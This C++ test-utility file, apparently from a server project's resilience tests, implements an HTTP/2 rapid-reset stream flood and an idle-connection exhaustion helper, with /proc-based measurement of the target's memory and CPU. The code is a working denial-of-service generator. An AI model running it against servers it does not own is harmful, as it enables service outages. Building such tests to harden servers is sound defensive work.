#include "tests/testutil/rapid_reset.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <fstream>
#include <thread>

#include "absl/strings/ascii.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/time/clock.h"

namespace sigrelay::testing {
namespace {

void Frame(std::string* out, uint8_t type, uint8_t flags, uint32_t stream,
           const std::string& payload) {
  const uint32_t n = static_cast<uint32_t>(payload.size());
  out->push_back(static_cast<char>(n >> 16));
  out->push_back(static_cast<char>(n >> 8));
  out->push_back(static_cast<char>(n));
  out->push_back(static_cast<char>(type));
  out->push_back(static_cast<char>(flags));
  for (int shift : {24, 16, 8, 0}) out->push_back(static_cast<char>((stream >> shift) & 0xff));
  out->append(payload);
}

// HPACK "literal header field without indexing, new name" (RFC 7541 6.2.2);
// every name and value here is shorter than 127 bytes.
void Literal(std::string* block, const std::string& name, const std::string& value) {
  block->push_back(0);
  block->push_back(static_cast<char>(name.size()));
  block->append(name);
  block->push_back(static_cast<char>(value.size()));
  block->append(value);
}

// One connection: plaintext or TLS writes and reads.
class Link {
 public:
  Link(int fd, SSL_CTX* ctx) : fd_(fd) {
    if (ctx == nullptr) return;
    ssl_ = SSL_new(ctx);
    SSL_set_fd(ssl_, fd);
    if (SSL_connect(ssl_) != 1) ok_ = false;
  }
  ~Link() {
    if (ssl_) SSL_free(ssl_);
    close(fd_);
  }
  bool ok() const { return ok_; }
  bool Write(const std::string& bytes) {
    size_t done = 0;
    while (done < bytes.size()) {
      long n = ssl_ ? SSL_write(ssl_, bytes.data() + done, static_cast<int>(bytes.size() - done))
                    : write(fd_, bytes.data() + done, bytes.size() - done);
      if (n <= 0) return false;
      done += static_cast<size_t>(n);
    }
    return true;
  }
  // Reads and drops until the connection ends (SSL objects are not safe
  // for a concurrent read and write, so TLS reads happen between writes).
  void DrainPlain() {
    char buf[16384];
    while (read(fd_, buf, sizeof buf) > 0) {
    }
  }
  void DrainTls() {
    char buf[16384];
    while (SSL_pending(ssl_) > 0 || HasBytes()) {
      if (SSL_read(ssl_, buf, sizeof buf) <= 0) return;
    }
  }
  bool tls() const { return ssl_ != nullptr; }
  void Shutdown() { shutdown(fd_, SHUT_RDWR); }

 private:
  bool HasBytes() {
    char c;
    return recv(fd_, &c, 1, MSG_PEEK | MSG_DONTWAIT) == 1;
  }
  int fd_;
  SSL* ssl_ = nullptr;
  bool ok_ = true;
};

}  // namespace

int ConnectTo(const std::string& address, const std::string& from) {
  std::vector<std::string> hp = absl::StrSplit(address, ':');
  int port = 0;
  if (hp.size() != 2 || !absl::SimpleAtoi(hp[1], &port)) return -1;
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in src{};
  src.sin_family = AF_INET;
  inet_pton(AF_INET, from.c_str(), &src.sin_addr);
  sockaddr_in dst{};
  dst.sin_family = AF_INET;
  dst.sin_port = htons(static_cast<uint16_t>(port));
  inet_pton(AF_INET, hp[0].c_str(), &dst.sin_addr);
  int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
  if ((!from.empty() && bind(fd, reinterpret_cast<sockaddr*>(&src), sizeof src) != 0) ||
      connect(fd, reinterpret_cast<sockaddr*>(&dst), sizeof dst) != 0) {
    close(fd);
    return -1;
  }
  // A server that stops reading holds a write at most this long: the
  // attacker then opens another connection. (Set after connect, which waits
  // out a full accept backlog as an attacker's would.)
  const timeval stall{1, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &stall, sizeof stall);
  return fd;
}

std::vector<int> IdleConnections(const std::string& address, int count, const std::string& from,
                                 bool tls) {
  std::vector<int> fds;
  static constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";
  static constexpr unsigned char kAlpn[] = {2, 'h', '2'};
  signal(SIGPIPE, SIG_IGN);  // a server closing the connection is an answer, not a crash
  SSL_CTX* ctx = nullptr;
  if (tls) {
    ctx = SSL_CTX_new(TLS_client_method());
    SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, nullptr);
    SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof kAlpn);
  }
  for (int i = 0; i < count; ++i) {
    int fd = ConnectTo(address, from);
    if (fd < 0) break;
    fds.push_back(fd);
    if (ctx == nullptr) {
      (void)!write(fd, kPreface, sizeof kPreface - 1);
      continue;
    }
    // The handshake, then the preface; the SSL object is dropped without a
    // close_notify, so the connection stays open (or was refused: the
    // caller sees it closed).
    SSL* ssl = SSL_new(ctx);
    SSL_set_fd(ssl, fd);
    if (SSL_connect(ssl) == 1) SSL_write(ssl, kPreface, sizeof kPreface - 1);
    SSL_free(ssl);
  }
  if (ctx != nullptr) SSL_CTX_free(ctx);
  return fds;
}

bool ClosedWithin(int fd, absl::Duration limit) {
  const absl::Time deadline = absl::Now() + limit;
  char buf[4096];
  while (absl::Now() < deadline) {
    pollfd p{fd, POLLIN, 0};
    int ready = poll(&p, 1, static_cast<int>(absl::ToInt64Milliseconds(deadline - absl::Now())));
    if (ready <= 0) continue;
    ssize_t n = read(fd, buf, sizeof buf);
    if (n <= 0) return true;  // closed (GOAWAY and frames before it are read and dropped)
  }
  return false;
}

RapidResetResult RapidReset(const std::string& address, const std::string& from, bool tls,
                            absl::Duration duration, uint64_t max_streams_per_second,
                            const RapidResetOptions& options) {
  const std::string& path = options.path;
  RapidResetResult result;
  signal(SIGPIPE, SIG_IGN);  // a server closing the connection is an answer, not a crash
  SSL_CTX* ctx = nullptr;
  if (tls) {
    ctx = SSL_CTX_new(TLS_client_method());
    static const unsigned char kAlpn[] = {2, 'h', '2'};
    SSL_CTX_set_alpn_protos(ctx, kAlpn, sizeof kAlpn);
  }
  std::string block;
  Literal(&block, ":method", "POST");
  Literal(&block, ":scheme", tls ? "https" : "http");
  Literal(&block, ":path", path);
  Literal(&block, ":authority", address);
  Literal(&block, "content-type", "application/grpc");
  Literal(&block, "te", "trailers");
  const std::string cancel("\0\0\0\x08", 4);         // RST_STREAM error code CANCEL
  const std::string empty_message("\0\0\0\0\0", 5);  // gRPC: not compressed, 0 bytes
  const absl::Time end = absl::Now() + duration;
  const absl::Time start = absl::Now();
  while (absl::Now() < end) {
    int fd = ConnectTo(address, from);
    if (fd < 0) {
      if (result.connections == 0) {
        result.error = "cannot connect to " + address;
        break;
      }
      ++result.refused;  // the server refuses this address now: try again
      absl::SleepFor(absl::Milliseconds(5));
      continue;
    }
    Link link(fd, ctx);
    if (!link.ok()) {
      if (result.connections == 0) {
        result.error = "TLS handshake with " + address + " failed";
        break;
      }
      ++result.refused;
      absl::SleepFor(absl::Milliseconds(5));
      continue;
    }
    ++result.connections;
    std::thread drain;
    if (!link.tls()) drain = std::thread([&link] { link.DrainPlain(); });
    std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    Frame(&hello, 4, 0, 0, "");  // SETTINGS
    Frame(&hello, 4, 1, 0, "");  // ACK of the server's
    bool open = link.Write(hello);
    if (!open) ++result.refused;
    uint32_t stream = 1;
    while (open && absl::Now() < end && stream < (1u << 31) - 2 * options.per_write) {
      std::string batch;
      for (int i = 0; i < options.per_write; ++i, stream += 2) {
        Frame(&batch, 1, 0x4, stream, block);  // HEADERS, END_HEADERS
        if (options.with_body) Frame(&batch, 0, 0x1, stream, empty_message);  // DATA, END_STREAM
        Frame(&batch, 3, 0, stream, cancel);                                  // RST_STREAM
      }
      open = link.Write(batch);
      if (open) result.streams += options.per_write;
      if (link.tls()) link.DrainTls();
      // Paced to the rate asked for.
      const absl::Time due =
          start + absl::Seconds(static_cast<double>(result.streams) / max_streams_per_second);
      if (due > absl::Now()) absl::SleepFor(due - absl::Now());
    }
    link.Shutdown();
    if (drain.joinable()) drain.join();
  }
  if (ctx) SSL_CTX_free(ctx);
  return result;
}

uint64_t ResidentBytes(int pid) {
  std::ifstream status(absl::StrCat("/proc/", pid, "/status"));
  std::string line;
  while (std::getline(status, line)) {
    uint64_t kb = 0;
    if (line.rfind("VmRSS:", 0) == 0 &&
        absl::SimpleAtoi(absl::StripAsciiWhitespace(line.substr(6, line.size() - 6 - 3)), &kb)) {
      return kb * 1024;
    }
  }
  return 0;
}

double CpuSeconds(int pid) {
  std::ifstream in(absl::StrCat("/proc/", pid, "/stat"));
  std::string stat((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  const size_t paren = stat.rfind(')');
  if (paren == std::string::npos) return 0;
  // Fields after "(comm) ": state is the first; utime and stime the 12th and 13th.
  std::vector<std::string> f = absl::StrSplit(stat.substr(paren + 2), ' ');
  int64_t user = 0, system = 0;
  if (f.size() < 13 || !absl::SimpleAtoi(f[11], &user) || !absl::SimpleAtoi(f[12], &system)) {
    return 0;
  }
  return static_cast<double>(user + system) / sysconf(_SC_CLK_TCK);
}

}  // namespace sigrelay::testing
